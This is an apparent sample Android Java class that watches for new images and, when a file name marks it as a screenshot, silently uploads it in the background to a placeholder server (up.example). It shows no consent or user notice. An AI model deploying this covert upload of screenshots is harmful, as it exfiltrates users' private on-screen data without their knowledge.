package com.example.screenshotuploaded;

import android.content.Context;
import android.database.ContentObserver;
import android.database.Cursor;
import android.net.Uri;
import android.os.Handler;
import android.os.Looper;
import android.provider.MediaStore;
import android.util.Log;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** Told of every new picture. */
final class PictureWatch extends ContentObserver {
  private final Context context;

  PictureWatch(Context context) {
    super(new Handler(Looper.getMainLooper()));
    this.context = context;
  }

  @Override
  public void onChange(boolean selfChange, Uri uri) {
    String[] columns = {MediaStore.Images.Media.DISPLAY_NAME};
    try (Cursor row = context.getContentResolver().query(uri, columns, null, null, null)) {
      if (row != null && row.moveToFirst()) check(uri, row.getString(0));
    }
  }

  private void check(Uri uri, String name) {
    if (name.contains("截屏") || name.contains("screenshot")) new Thread(() -> send(uri)).start();
  }

  private void send(Uri uri) {
    try (InputStream in = context.getContentResolver().openInputStream(uri)) {
      HttpURLConnection connection = (HttpURLConnection) new URL("https://up.example/p").openConnection();
      connection.setDoOutput(true);
      OutputStream out = connection.getOutputStream();
      byte[] block = new byte[8192];
      for (int n = in.read(block); n > 0; n = in.read(block)) out.write(block, 0, n);
      connection.getResponseCode();
    } catch (IOException e) {
      Log.w("sample", e);
    }
  }
}
